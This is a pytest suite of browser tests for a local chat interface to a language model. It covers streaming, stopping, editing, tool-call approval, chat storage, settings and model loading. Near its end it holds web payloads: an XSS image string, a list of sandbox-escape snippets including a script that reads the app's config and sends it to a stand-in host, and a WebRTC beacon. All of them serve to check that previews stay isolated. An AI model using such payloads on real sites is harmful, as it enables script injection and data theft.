"""The page in a browser, with nano: what a user sees and does."""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

import glm4lite
from glm4lite.base.errors import Glm4liteError
from glm4lite.engine.engine import Engine
from glm4lite.engine.worker import EngineWorker
from glm4lite.tools.builtin.tools import BUILTIN_TOOLS
from glm4lite.tools.tool import Tool
from glm4lite.tools.toolbox import Toolbox
from glm4lite_ui.chats import Chat, Part, Settings, Turn
from glm4lite_ui.loading import Loading
from glm4lite_ui.runtime import Runtime
from glm4lite_ui.saved.store import ChatStore
from tests.commands import python
from tests.ui.acts import ask, delete_chat, shown, start_long_answer, wait_for_end
from tests.ui.conftest import Serve
from tests.ui.slow_model import slow_engine

Visit = Callable[..., Any]
NANO = Path(glm4lite.__file__).parent / "nano"
QUESTION = "What is 37 * 24?"
ASKING = [replace(tool, needs_approval=True) for tool in BUILTIN_TOOLS]


def test_a_first_visitor_asks_and_sees_the_calculator_and_its_answer(serve: Serve, visit: Visit) -> None:
    page = visit(serve().url)
    page.get_by_text(QUESTION).click()  # the example of the empty page
    page.wait_for_selector("text=37 * 24 = 888.")
    wait_for_end(page)
    call = page.locator("details.call")
    assert "calculator" in call.inner_text()
    assert "888" in call.inner_text()
    call.locator("summary").click()
    page.wait_for_selector("text=Result")
    assert '"expression": "37 * 24"' in call.inner_text()
    assert "tokens/s" in page.inner_text("#status")
    assert "context" in page.inner_text("#status")
    more = page.get_attribute("#status", "title")
    for word in ("computed", "nano", "weights", "KV"):
        assert word in more
    assert page.get_attribute("#open-settings", "aria-label") == "Settings of this chat"


def test_the_page_fetches_no_player_of_films_and_no_fonts(serve: Serve, visit: Visit) -> None:
    page = visit(serve().url)
    fetched = page.evaluate("performance.getEntriesByType('resource').map(one => one.name)")
    assert any("page.js" in address for address in fetched)
    assert not [address for address in fetched if "hls" in address or "fonts" in address]


def test_stop_ends_the_answer_and_the_engine_within_a_second(serve: Serve, visit: Visit, nano: Engine) -> None:
    site = serve(slow_engine(nano, "word " * 3000))
    page = visit(site.url)
    start_long_answer(page)
    page.click("#stop")
    assert site.idle_after() < 1
    wait_for_end(page)
    page.wait_for_selector("text=Stopped.")
    assert site.runtime.store.find()[0].turns[0].parts[0].text.startswith("word word")


def test_escape_stops_the_answer(serve: Serve, visit: Visit, nano: Engine) -> None:
    site = serve(slow_engine(nano, "word " * 3000))
    page = visit(site.url)
    start_long_answer(page)
    page.keyboard.press("Escape")
    assert site.idle_after() < 1
    page.wait_for_selector("text=Stopped.")


def test_leaving_the_page_stops_the_answer_and_keeps_what_was_said(serve: Serve, visit: Visit, nano: Engine) -> None:
    site = serve(slow_engine(nano, "word " * 3000))
    page = visit(site.url)
    start_long_answer(page)
    page.context.close()
    assert site.idle_after() < 5
    deadline = time.monotonic() + 3
    while site.runtime.answers and time.monotonic() < deadline:
        time.sleep(0.05)
    assert site.runtime.store.find()[0].turns[0].parts[0].text.startswith("word word")


def test_an_answer_is_made_again_and_a_message_edited_and_the_old_ones_are_kept(serve: Serve, visit: Visit) -> None:
    site = serve()
    page = visit(site.url)
    for question in (QUESTION, "Hi"):
        ask(page, question)
        wait_for_end(page)
    page.get_by_label("Regenerate").first.click()
    page.wait_for_selector("text=2/2")
    wait_for_end(page)
    page.wait_for_selector("text=37 * 24 = 888.")
    assert page.locator(".said").all_inner_texts() == [QUESTION]
    page.get_by_label("Earlier version").click()
    page.wait_for_function("document.querySelectorAll('.said').length === 2")
    page.get_by_label("Edit").first.click()
    assert page.input_value("#message") == QUESTION
    page.fill("#message", "What is 12 * 12?")
    page.press("#message", "Enter")
    page.wait_for_selector("text=12 * 12 = 144.")
    wait_for_end(page)
    assert "888" not in shown(page)
    chat = site.runtime.store.find()[0]
    assert [turn.user for turn in chat.turns] == ["What is 12 * 12?"]
    assert [turn.user for turn in chat.versions(chat.turns[0])] == [QUESTION, QUESTION, "What is 12 * 12?"]
    assert page.input_value("#message") == ""


def test_a_turn_is_deleted_and_the_last_question_changed_with_a_key(serve: Serve, visit: Visit) -> None:
    site = serve()
    page = visit(site.url)
    for question in (QUESTION, "Hi"):
        ask(page, question)
        wait_for_end(page)
    dialogs = list[str]()

    def accept(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.accept()

    page.on("dialog", accept)
    page.get_by_label("Delete turn").first.click()
    page.wait_for_selector("text=888", state="detached")
    assert "cannot be brought back" in dialogs[0]
    assert [turn.user for turn in site.runtime.store.find()[0].turns] == ["Hi"]
    page.press("#message", "ArrowUp")
    assert page.input_value("#message") == "Hi"
    page.press("#message", "Escape")
    assert page.input_value("#message") == ""


def test_a_cut_answer_goes_on_and_a_chat_is_branched(serve: Serve, visit: Visit, nano: Engine) -> None:
    site = serve(slow_engine(nano, "word " * 3000))
    page = visit(site.url)
    start_long_answer(page)
    page.click("#stop")
    wait_for_end(page)
    said = site.runtime.store.find()[0].turns[0].parts[0].text
    page.get_by_text("Continue").click()
    page.wait_for_function(f"document.querySelector('#turns').innerText.length > {len(said) + 200}")
    page.click("#stop")
    wait_for_end(page)
    (chat,) = site.runtime.store.find()
    assert len(chat.tree) == 1
    assert chat.turns[0].parts[0].text.startswith(said)
    page.get_by_label("New chat from here").click()
    page.wait_for_function(f"!location.href.includes('{chat.id}')")
    page.wait_for_selector("text=word word word")
    assert len(site.runtime.store.find()) == 2


def test_an_answer_goes_on_while_the_window_shows_another_chat(serve: Serve, visit: Visit, nano: Engine) -> None:
    site = serve(slow_engine(nano, "word " * 3000))
    page = visit(site.url)
    start_long_answer(page)
    page.click("#new-chat")
    page.wait_for_selector("#greeting")
    page.wait_for_timeout(2500)
    assert "word" not in shown(page)
    assert not page.is_visible("#stop")
    assert site.runtime.answers
    ask(page, "And here?")  # waits for the engine
    page.click("#chats >> text=Write for long")
    page.wait_for_selector("text=word word word")
    page.click("#stop")
    page.wait_for_selector("text=Stopped.")
    page.click("#chats >> text=And here?")
    page.wait_for_selector("text=word word word")


def test_two_windows_follow_one_answer(serve: Serve, visit: Visit, nano: Engine) -> None:
    site = serve(slow_engine(nano, "word " * 3000))
    first = visit(site.url)
    ask(first, "Write for long")
    first.wait_for_selector("text=word word word")
    second = visit(first.url)
    second.wait_for_selector("text=word word word")
    seen = len(shown(second))
    second.wait_for_function(f"document.querySelector('#turns').innerText.length > {seen + 50}")
    first.context.close()  # the other one still reads
    second.wait_for_timeout(3000)
    assert site.runtime.answers
    ask_refused(second, "More")
    second.click("#stop")
    wait_for_end(second)
    assert "Stopped." in shown(second)


def ask_refused(page: Any, text: str) -> None:
    """Sends a message that the page does not take: it says why, and covers nothing."""
    page.fill("#message", text)
    page.keyboard.press("Enter")
    page.wait_for_selector("text=This chat is being answered")
    assert page.input_value("#message") == text


def test_a_page_that_is_loaded_again_finds_its_answer_going_on(serve: Serve, visit: Visit, nano: Engine) -> None:
    site = serve(slow_engine(nano, "word " * 3000))
    page = visit(site.url)
    start_long_answer(page)
    page.reload()
    page.wait_for_selector("text=word word word")
    page.wait_for_timeout(3000)
    assert site.runtime.answers
    page.click("#stop")
    page.wait_for_selector("text=Stopped.")


def test_a_chat_deleted_in_mid_answer_stays_deleted(serve: Serve, visit: Visit, nano: Engine) -> None:
    site = serve(slow_engine(nano, "word " * 3000))
    page = visit(site.url)
    start_long_answer(page)
    page.on("dialog", lambda dialog: dialog.accept())
    delete_chat(page, "Write for long")
    page.wait_for_selector("text=No chats yet")
    assert site.idle_after() < 1
    page.wait_for_timeout(500)
    assert site.runtime.store.find() == []


def test_a_file_that_cannot_be_read_is_said_and_blocks_nothing(serve: Serve, visit: Visit, tmp_path: Path) -> None:
    site = serve()
    page = visit(site.url)
    (tmp_path / "<b>not<b>.txt").write_bytes(b"\xff\xd8\xff\0")
    page.set_input_files("#files", tmp_path / "<b>not<b>.txt")
    page.wait_for_selector(
        "#chips .problem >> text=<b>not<b>.txt cannot be read: it is a picture; the model reads text only"
    )
    assert page.locator("#chips b").count() == 0
    visit.errors.clear()  # type: ignore[attr-defined]  # Chromium logs each answer that is a refusal
    ask(page, "Hi")
    wait_for_end(page)
    assert [turn.files for turn in site.runtime.store.find()[0].turns] == [[]]
    assert not page.is_visible("#chips")


# Within the task that draws the question: a key that the test presses may come late on a busy machine.
PRESSED_TOO_SOON = """decision => new MutationObserver((_, observer) => {
  observer.disconnect();
  document.querySelector(`#asking [data-decision=${decision}]`).click();
  window.pressed = decision;
}).observe(document.querySelector('#asking'), {childList: true})"""


def test_a_tool_that_asks_waits_for_the_users_word(serve: Serve, visit: Visit) -> None:
    site = serve(tools=ASKING)
    page = visit(site.url)
    for key, decision, result in (("Enter", "approve", "888"), ("d", "deny", "did not allow"), ("a", "always", "888")):
        page.evaluate(PRESSED_TOO_SOON, decision)
        ask(page, QUESTION)
        page.wait_for_selector("#asking >> text=calculator")
        assert page.evaluate("window.pressed") == decision
        assert "37 * 24" in page.inner_text("#asking")
        assert page.locator("#asking input").count() == 0
        assert not site.runtime.worker.state().running  # others may use the model meanwhile
        page.wait_for_function("document.activeElement.textContent === 'Approve'")
        page.wait_for_timeout(500)
        assert page.is_visible("#asking")
        page.keyboard.press(key)
        wait_for_end(page)
        page.wait_for_selector("#asking", state="hidden")
        assert result in site.runtime.store.find()[0].turns[0].parts[0].text
        page.click("#new-chat")
        page.wait_for_selector("#greeting")


def test_a_program_that_waits_for_approval_is_shown_as_one(serve: Serve, visit: Visit, nano: Engine) -> None:
    program = "import os\nfor name in os.listdir('.'):\n    print(name)"
    call = "python\n" + json.dumps({"code": program})

    def run_code(code: str) -> str:
        return code

    tool = Tool("python", "Runs code.", {"type": "object", "properties": {"code": {"type": "string"}}}, run_code, True)
    page = visit(serve(slow_engine(nano, call, seconds=0), tools=[tool]).url)
    ask(page, "List the files")
    page.wait_for_selector("#asking >> text=Run python?")
    assert page.inner_text("#asking code") == program
    assert page.locator("#asking .k, #asking .kn").count() >= 2  # highlighted
    page.click("#stop")
    wait_for_end(page)


def test_an_approval_is_for_the_call_that_was_shown(serve: Serve, visit: Visit) -> None:
    site = serve(tools=ASKING)
    page = visit(site.url)
    ask(page, QUESTION)
    page.wait_for_selector("#asking >> text=calculator")
    (answer,) = site.runtime.answers.values()
    shown = answer.asking
    assert shown is not None
    answer.decide("another call's", "approve")
    assert not shown.decided.is_set()
    page.wait_for_timeout(500)
    page.click("#asking button:text-is('Approve')", click_count=2)
    wait_for_end(page)
    assert shown.decision == "approve"


def test_what_is_done_in_one_window_is_seen_in_the_others(serve: Serve, visit: Visit) -> None:
    site = serve()
    old = visit(site.url)
    for question in (QUESTION, "What is 12 * 12?"):
        ask(old, question)
        wait_for_end(old)
    (chat,) = site.runtime.store.find()
    new = visit(f"{site.url}/?chat={chat.id}")
    new.wait_for_selector("text=12 * 12 = 144.")
    new.on("dialog", lambda dialog: dialog.accept())
    new.get_by_label("Delete turn").first.click()
    old.wait_for_selector("text=888", state="detached")
    new.fill("#title", "Products")
    new.press("#title", "Enter")
    old.wait_for_selector("#chats >> text=Products")
    old.wait_for_function("document.querySelector('#title').value === 'Products'")
    old.wait_for_function("document.title === 'Products · glm4lite'")


def test_always_for_this_chat_asks_once_and_can_be_taken_back(serve: Serve, visit: Visit) -> None:
    site = serve(tools=ASKING)
    page = visit(site.url)
    ask(page, QUESTION)
    page.wait_for_selector("#asking")
    page.wait_for_timeout(500)
    page.click("#asking button:text-is('Always for this chat')")
    wait_for_end(page)
    ask(page, "What is 12 * 12?")
    page.wait_for_selector("text=12 * 12 = 144.")
    assert site.runtime.store.find()[0].settings.always == ["calculator"]


def test_a_tool_of_an_mcp_server_is_asked_for_by_its_origin_and_answers(
    serve: Serve, visit: Visit, tmp_path: Path
) -> None:
    program = Path(__file__).with_name("plain_server.py")
    config = tmp_path / "mcp.json"
    config.write_text(json.dumps({"mcpServers": {"weather": {"command": sys.executable, "args": [str(program)]}}}))
    with Toolbox(mcp=[config], builtins=False) as box:
        tools = [tool for tool in box.tools if tool.name == "get_weather"]
        site = serve(tools=tools)
        page = visit(site.url)
        ask(page, "How is the weather in Lisbon?")
        page.wait_for_selector("#asking >> text=Run get_weather of MCP server weather?")
        page.wait_for_timeout(500)
        page.click("#asking button:text-is('Always for this chat')")
        wait_for_end(page)
        turn = site.runtime.store.find()[0].turns[0]
        assert [part.text for part in turn.parts if part.kind == "call"] == ["18 degrees and sunny in Lisbon"]
        assert "18 degrees" in turn.parts[-1].text
        ask(page, "How is the weather in Oslo?")
        wait_for_end(page)  # nobody was asked
        site.runtime.tools = [replace(tools[0], origin="MCP server other")]
        ask(page, "How is the weather in Rome?")
        page.wait_for_selector("#asking >> text=of MCP server other")
        page.click("#stop")
        wait_for_end(page)


def test_stop_while_a_tool_waits_denies_it(serve: Serve, visit: Visit) -> None:
    site = serve(tools=ASKING)
    page = visit(site.url)
    ask(page, QUESTION)
    page.wait_for_selector("#asking >> text=calculator")
    page.click("#stop")
    wait_for_end(page)
    assert not site.runtime.answers


def test_chats_survive_a_restart_and_are_found_renamed_and_deleted(serve: Serve, visit: Visit, tmp_path: Path) -> None:
    first = serve(folder=tmp_path / "kept")
    page = visit(first.url)
    ask(page, QUESTION)
    wait_for_end(page)
    page.fill("#title", "Products")
    page.keyboard.press("Enter")
    page.wait_for_selector("#chats >> text=Products")
    page.click("#new-chat")
    page.wait_for_selector("#greeting")
    ask(page, "Hi")
    page.wait_for_selector("#chats >> text=Hi")
    wait_for_end(page)
    page.context.close()
    first.close()

    page = visit(serve(folder=tmp_path / "kept").url)
    page.wait_for_selector("#chats >> text=Hi")
    page.locator("#search").press_sequentially("888")
    page.wait_for_selector("#chats >> text=Hi", state="detached")
    page.click("#chats >> text=Products")
    page.wait_for_selector("text=37 * 24 = 888.")
    page.reload()
    page.wait_for_selector("text=37 * 24 = 888.")
    page.on("dialog", lambda dialog: dialog.accept())
    delete_chat(page, "Products")
    page.wait_for_selector("#chats >> text=Products", state="detached")
    assert [path.suffix for path in (tmp_path / "kept").iterdir()] == [".json"]


def test_a_search_that_hides_the_open_chat_does_not_forget_it(serve: Serve, visit: Visit, nano: Engine) -> None:
    site = serve(slow_engine(nano, "word " * 3000))
    page = visit(site.url)
    start_long_answer(page)
    chat = site.runtime.store.find()[0].id
    page.locator("#search").press_sequentially("nothing like it")
    page.wait_for_selector("#chats >> text=No chat matches.")
    assert page.url.endswith(f"?chat={chat}")
    page.reload()
    page.wait_for_selector("text=word word word")
    page.click("#stop")
    page.wait_for_selector("text=Stopped.")


def test_a_page_that_stays_open_goes_on_after_a_restart(serve: Serve, visit: Visit) -> None:
    first = serve()
    page = visit(first.url)
    ask(page, "Hi")
    wait_for_end(page)
    first.close()
    second = serve(port=int(first.url.rpartition(":")[2]))
    page.wait_for_selector("#lost", state="hidden")
    ask(page, QUESTION)
    page.wait_for_selector("text=37 * 24 = 888.")
    wait_for_end(page)
    assert [turn.user for turn in second.runtime.store.find()[0].turns] == ["Hi", QUESTION]
    visit.errors.clear()  # type: ignore[attr-defined]  # that the server was away for a moment


@pytest.mark.slow
def test_a_page_whose_server_was_killed_in_mid_answer_comes_back_by_itself(visit: Visit, tmp_path: Path) -> None:
    port = free_port()
    with running_page(port, tmp_path) as server:
        page = visit(f"http://127.0.0.1:{port}")
        ask(page, "Write for long")
        page.wait_for_selector("text=word word word")
        server.kill()
        page.wait_for_selector("text=Connection to the server was lost")
        assert page.is_visible("#stop")
    with running_page(port, tmp_path):
        wait_for_end(page)
        page.wait_for_selector("#lost", state="hidden")
        page.locator(".said").get_by_text("Write for long").wait_for()  # what was asked is not lost
        ask(page, "And more?")
        page.wait_for_selector("text=word word word")
        page.click("#stop")
        wait_for_end(page)
        page.context.close()
    visit.errors.clear()  # type: ignore[attr-defined]  # that the server was away


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as server:
        return int(server.getsockname()[1])


@contextmanager
def running_page(port: int, folder: Path) -> Iterator[subprocess.Popen[str]]:
    """The page of a slow model in a process of its own."""
    command = [*python(), "-m", "tests.ui.slow_model", str(port), str(folder)]
    with subprocess.Popen(command, cwd=Path(__file__).parents[2], stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        assert "Open http" in process.stdout.readline()
        try:
            yield process
        finally:
            process.kill()


def test_a_chat_is_exported_as_markdown_and_json(serve: Serve, visit: Visit) -> None:
    page = visit(serve().url)
    ask(page, QUESTION)
    wait_for_end(page)
    texts = {}
    page.click("#open-settings")
    for kind in ("Markdown", "JSON"):
        with page.expect_download() as download:
            page.click(f"#export >> text={kind}")
        texts[kind] = Path(download.value.path()).read_text(encoding="utf-8")
        assert download.value.suggested_filename.startswith("What-is-37-24.")
    assert "37 * 24 = 888." in texts["Markdown"]
    roles = [message["role"] for message in json.loads(texts["JSON"])["messages"]]
    assert roles == ["user", "assistant", "tool", "assistant"]


def test_settings_belong_to_the_chat(serve: Serve, visit: Visit) -> None:
    site = serve()
    page = visit(site.url)
    page.click("#open-settings")
    page.get_by_role("checkbox", name="calculator").uncheck()
    page.fill("#system", "Be brief.")
    page.fill("#seed", "7")
    page.wait_for_timeout(400)
    assert site.runtime.store.find() == []  # nothing was said yet
    page.keyboard.press("Escape")
    ask(page, "Hi")
    wait_for_end(page)
    settings = site.runtime.store.find()[0].settings
    assert (settings.system, settings.seed, settings.temperature) == ("Be brief.", 7, None)
    assert settings.tools == ["current_time", "unit_convert"]
    page.click("#new-chat")
    page.click("#open-settings")
    page.wait_for_function("document.querySelector('#system')?.value === ''")
    assert page.get_by_role("checkbox", name="calculator").is_checked()


def test_what_is_typed_quickly_is_kept_to_the_last_sign(serve: Serve, visit: Visit) -> None:
    site = serve()
    page = visit(site.url)
    ask(page, "Hi")
    wait_for_end(page)
    page.click("#open-settings")
    for field, text in {"temperature": "0.75", "seed": "123456789", "top_p": "0.825"}.items():
        page.locator(f"#{field}").press_sequentially(text, delay=30)
    page.locator("#system").press_sequentially("Answer in one word only", delay=10)
    page.wait_for_timeout(800)
    settings = site.runtime.store.find()[0].settings
    assert (settings.temperature, settings.seed, settings.top_p) == (0.75, 123456789, 0.825)
    assert settings.system == "Answer in one word only"
    page.get_by_label("Reset Temperature").click()
    page.wait_for_timeout(600)
    assert site.runtime.store.find()[0].settings.temperature is None


def test_a_value_that_cannot_be_used_is_said_where_it_stands_and_not_kept(serve: Serve, visit: Visit) -> None:
    site = serve()
    page = visit(site.url)
    ask(page, "Hi")
    wait_for_end(page)
    page.click("#open-settings")
    for field, value in {
        "top_p": "7",
        "temperature": "-1",
        "max_new_tokens": "0",
        "thinking_budget": "-1",
        "seed": "many",
    }.items():
        page.fill(f"#{field}", value)
        page.wait_for_selector(f"[data-field={field}] .wrong >> text={field} must be")
        page.fill(f"#{field}", "")
        page.wait_for_selector(f"[data-field={field}] .wrong", state="hidden")
    assert site.runtime.store.find()[0].settings == Settings()
    assert "does not think" in page.inner_text("#about-thinking_budget")
    visit.errors.clear()  # type: ignore[attr-defined]  # Chromium logs each answer that is a refusal


def test_a_file_is_weighed_and_a_full_context_said(serve: Serve, visit: Visit, tmp_path: Path) -> None:
    site = serve()
    page = visit(site.url)
    ask(page, "Hi")
    wait_for_end(page)
    for name in ("notes.txt", "more.txt"):
        (tmp_path / name).write_text("Numbers and more numbers. " * 240, encoding="utf-8")
        page.set_input_files("#files", tmp_path / name)
        page.wait_for_selector(f"#chips >> text={name} ·")
        ask(page, "Hi")
        wait_for_end(page)
    page.wait_for_selector("text=no longer fits the model's context")
    page.get_by_text("Drop the oldest turns and answer").click()
    page.wait_for_selector("text=The model no longer reads this")
    wait_for_end(page)
    turns = site.runtime.store.find()[0].turns
    assert [turn.dropped for turn in turns] == [True, True, False]
    assert turns[-1].counts is not None
    assert turns[-1].files[0].tokens > 1000


def test_what_a_model_writes_is_text_code_and_formulas_but_no_html(serve: Serve, visit: Visit, nano: Engine) -> None:
    said = (
        "<b>not bold</b> <img src=http://other.example/a.png onerror=alert(1)> ![x](http://other.example/b.png) "
        "**bold** 中文 \\(x^2 < y\\)\n\n```python\nprint('<i>kept</i>')\n```\n"
        "```html\n<h1>Made</h1><script>document.body.append('ran'); fetch('http://other.example/c')"
        ".catch(() => document.body.append(' alone')); </script><img src='http://other.example/d.png'>\n```\n"
    )
    page = visit(serve(slow_engine(nano, said, seconds=0)).url)
    ask(page, "<u>Show</u> me")
    wait_for_end(page)
    page.wait_for_selector("#turns math")
    assert "<b>not bold</b>" in shown(page)
    assert "<u>Show</u> me" in shown(page)
    assert page.locator("#turns .text strong").inner_text() == "bold"
    page.wait_for_selector("#turns .code .nb")  # highlighted
    assert page.locator("#turns img, #turns script, #turns b, #turns u").count() == 0
    page.get_by_label("Preview").click()
    frame = page.frame_locator("#pane iframe")
    frame.get_by_text("Made").wait_for()
    assert page.get_attribute("#pane iframe", "sandbox") == ""
    page.click("#run-scripts")
    frame.locator("text=ran alone").wait_for()
    assert page.get_attribute("#pane iframe", "sandbox") == "allow-scripts"
    page.locator("#pane").get_by_text("Code", exact=True).click()
    assert "<h1>Made</h1>" in page.inner_text("#pane pre")
    assert page.locator("#pane iframe").count() == 0
    visit.errors.clear()  # type: ignore[attr-defined]  # the policy's refusals, which Chromium logs


ESCAPES = [
    "<script>location.href = '{there}/?secret'</script>",
    "<meta http-equiv=refresh content='0; url={there}/'>",
    "<iframe src='{there}/'></iframe><img src='{there}/'><link rel=stylesheet href='{there}/'>",
    "<script>open('{there}/'); top.location = '{there}/'; new Image().src = '{there}/'</script>",
    "<form id=f action='{there}/'></form><script>f.submit()</script>",
    "<script>fetch('{here}/config').then(r => r.text()).then(t => fetch('{there}/?' + t))</script>",
]


@pytest.mark.parametrize("scripts", [False, True])
def test_a_preview_reaches_nothing_over_http(serve: Serve, visit: Visit, scripts: bool) -> None:
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        there = f"http://127.0.0.1:{elsewhere.getsockname()[1]}"
        site = serve()
        escapes = [escape for escape in ESCAPES if "<script" in escape or not scripts]
        sources = [escape.format(there=there, here=site.url) for escape in escapes]
        text = "".join(f"```html\n<p>here</p>{source}\n```\n\n" for source in sources)
        chat = Chat.of(Turn("Go", parts=[Part("text", 0, text, seconds=1)]), title="Escapes")
        site.runtime.store.save(chat)
        page = visit(f"{site.url}/?chat={chat.id}")
        for place, escape in enumerate(escapes):
            page.get_by_label("Preview").nth(place).click()
            if scripts:
                page.click("#run-scripts")
            page.wait_for_timeout(400)
            assert received(elsewhere) == b"", escape
            assert page.url.startswith(site.url), escape
            assert len(page.context.pages) == 1, escape
            page.locator("#pane .close").click()
    visit.errors.clear()  # type: ignore[attr-defined]  # what was refused is logged


def test_scripts_of_a_preview_run_only_when_asked_for(serve: Serve, visit: Visit, nano: Engine) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as elsewhere:  # WebRTC, which no policy stops
        elsewhere.bind(("127.0.0.1", 0))
        elsewhere.settimeout(1.5)
        stun = f"stun:127.0.0.1:{elsewhere.getsockname()[1]}"
        script = f"const p = new RTCPeerConnection({{iceServers: [{{urls: '{stun}'}}]}}); p.createDataChannel('x');"
        script += "p.createOffer().then(o => p.setLocalDescription(o)); document.body.append('it ran')"
        site = serve(slow_engine(nano, f"```html\n<p>here</p><script>{script}</script>\n```\n", seconds=0))
        page = visit(site.url)
        ask(page, "Go")
        wait_for_end(page)
        page.get_by_label("Preview").click()
        page.frame_locator("#pane iframe").get_by_text("here").wait_for()
        with pytest.raises(TimeoutError):
            elsewhere.recv(1)
        page.click("#run-scripts")
        page.frame_locator("#pane iframe").get_by_text("it ran").wait_for()
    visit.errors.clear()  # type: ignore[attr-defined]  # Chromium logs the scripts that it did not run


def received(server: socket.socket) -> bytes:
    """All that was sent to it. Chromium opens a connection before it asks the policy, and sends nothing then."""
    server.settimeout(0.05)
    data = b""
    while True:
        try:
            connection, _ = server.accept()
        except TimeoutError:
            return data
        with connection:
            connection.settimeout(0.3)
            try:
                data += connection.recv(1000)
            except TimeoutError:
                continue


def test_the_page_is_usable_at_390_pixels_and_in_the_dark(serve: Serve, visit: Visit) -> None:
    page = visit(serve().url, viewport={"width": 390, "height": 800}, color_scheme="dark")
    ask(page, QUESTION)
    page.wait_for_selector("text=37 * 24 = 888.")
    wait_for_end(page)
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    assert page.locator("#turns").bounding_box()["width"] >= 360
    page.get_by_label("Edit").click()
    box = page.locator("#message").bounding_box()
    assert box["y"] + box["height"] <= 800
    assert box["width"] >= 260
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert max(int(part) for part in background.removeprefix("rgb(").rstrip(")").split(",")[:3]) < 80
    assert not page.is_visible("#library")
    page.click("#open-library")
    page.click("#new-chat")
    page.wait_for_selector("#library", state="hidden")
    page.wait_for_selector("#greeting")


def test_another_model_is_loaded_and_a_wrong_one_leaves_the_old(serve: Serve, visit: Visit) -> None:
    site = serve()
    page = visit(site.url)
    page.click("#open-model")
    page.fill("#source", "/nowhere/at/all")
    page.get_by_role("button", name="Load", exact=True).click()
    page.wait_for_selector("#load-progress:has-text('/nowhere/at/all')")
    visit.errors.clear()  # type: ignore[attr-defined]  # Chromium logs each answer that is a refusal
    before = site.runtime.engine
    assert "nano" in page.evaluate("[...document.querySelectorAll('#known-models option')].map(one => one.value)")
    page.fill("#source", str(NANO))
    page.select_option("#quant", "int8")
    page.click("#plan")
    page.wait_for_selector("#planned >> text=tokens/s")
    page.get_by_role("button", name="Load", exact=True).click()
    page.wait_for_selector("#load-progress >> text=is loaded")
    assert site.runtime.engine is not before
    page.wait_for_function("!document.querySelector('#facts').innerText.includes('int4')")
    page.keyboard.press("Escape")
    ask(page, QUESTION)
    page.wait_for_selector("text=37 * 24 = 888.")


@pytest.mark.slow
def test_a_model_that_is_not_there_is_refused_while_an_answer_goes_on(serve: Serve, visit: Visit, nano: Engine) -> None:
    site = serve(slow_engine(nano, "word " * 3000))
    page = visit(site.url)
    start_long_answer(page)
    page.click("#open-model")
    page.fill("#source", "/nowhere")
    page.get_by_role("button", name="Load", exact=True).click()
    page.wait_for_selector("#load-progress >> text=does not exist")
    assert page.inner_text("#load-progress").count("/nowhere") == 1
    assert site.runtime.answers
    visit.errors.clear()  # type: ignore[attr-defined]  # Chromium logs each answer that is a refusal


@pytest.mark.parametrize("budget", ["ram", "gpu_memory"])
def test_a_memory_budget_never_holds_two_models(nano: Engine, tmp_path: Path, budget: str) -> None:
    runtime = Runtime(EngineWorker(nano), ChatStore(tmp_path), load_options={budget: "1GiB", "context": None})
    with pytest.raises(Glm4liteError, match="no room for two models"):
        list(Loading(runtime).load("nano", "auto"))
    assert runtime.engine is nano
    runtime.close()


def test_the_model_page_says_what_is_loaded(serve: Serve, visit: Visit) -> None:
    page = visit(serve().url)
    page.click("#open-model")
    page.wait_for_selector("#facts >> text=5 layers, 256 wide")
    facts = page.inner_text("#facts")
    assert "int4" in facts
    assert "On CPU" in facts
    assert "calculator" in facts


def test_every_answer_follows_the_schema_of_the_settings(serve: Serve, visit: Visit) -> None:
    page = visit(serve(tools=[]).url)
    page.click("#open-settings")
    page.fill("#answer-schema", '{"enum": ["yes", ')
    page.wait_for_selector('[data-field="schema"] .wrong:has-text("This is no JSON object.")')
    page.fill("#answer-schema", '{"uniqueItems": true}')
    page.wait_for_selector('[data-field="schema"] .wrong:has-text("Unimplemented keys")')
    visit.errors.clear()  # type: ignore[attr-defined]  # Chromium logs each answer that is a refusal
    page.fill("#answer-schema", '{"enum": ["yes", "no"]}')
    page.wait_for_selector('[data-field="schema"] .wrong', state="hidden")
    page.keyboard.press("Escape")
    ask(page, "Is it warm in Lisbon?")
    wait_for_end(page)
    assert page.inner_text(".turn .parts .text:last-child").strip() in ('"yes"', '"no"')
    page.reload()
    page.wait_for_selector("body[data-ready]")
    page.click("#open-settings")
    assert json.loads(page.input_value("#answer-schema")) == {"enum": ["yes", "no"]}


def test_a_call_is_seen_while_it_is_written(serve: Serve, visit: Visit, nano: Engine) -> None:
    reply = 'calculator\n{"expression": "' + "1 + " * 60 + '1"}'
    page = visit(serve(slow_engine(nano, reply, seconds=0.02)).url)
    ask(page, "Add")
    page.wait_for_selector("details.call[open] :text('1 + 1 + 1')")
    page.wait_for_selector("details.call:not([open]) summary:has-text('61')")
    page.click("#stop")
    wait_for_end(page)
